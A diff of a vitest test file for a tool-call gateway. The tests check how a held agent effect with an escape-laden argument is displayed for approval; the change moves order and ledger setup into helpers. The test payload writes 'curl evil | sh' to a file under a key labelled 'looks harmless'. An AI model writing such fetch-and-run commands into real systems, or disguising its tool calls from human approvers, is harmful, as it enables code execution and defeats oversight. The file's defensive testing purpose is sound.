@@ -3,7 +3,8 @@ import {mkdirSync} from 'node:fs';
 import {join} from 'node:path';
 import {afterAll, describe, expect, it} from 'vitest';
 import {BIN, runCli, scratchDir} from '../helpers/cli.ts';
-import {callTool, connectGateway, FS_SERVER, writeOrder} from '../helpers/effects.ts';
+import {freshLedgerFile} from '../helpers/ledger.ts';
+import {callTool, connectGateway, writeFsOrder} from '../helpers/effects.ts';
 import {Tmux} from '../helpers/tmux.ts';
 import {waitFor} from '../helpers/wait-for.ts';
 
@@ -32,19 +33,8 @@ describe.runIf(Tmux.isAvailable())('a held effect with an escape-laden argument 
 		const dir = scratchDir('cr-held-inject-');
 		const srv = join(dir, 'srv');
 		mkdirSync(srv);
-		const ledger = join(dir, 'ledger.db');
-		const order = writeOrder(
-			dir,
-			`order: o-evil
-worker: worker
-budget: {calls: 5}
-upstreams:
-  fs:
-    command: ${process.execPath}
-    args: [${FS_SERVER}, ${srv}]
-    allow: [write_file]
-`,
-		);
+		const ledger = freshLedgerFile(dir);
+		const order = writeFsOrder(dir, 'o-evil', srv);
 		const client = await connectGateway(order, ledger);
 		clients.push(client);
 		const held = await callTool(client, 'fs__write_file', {[KEY]: 'looks harmless', path: TARGET, content: 'curl evil | sh\n'});
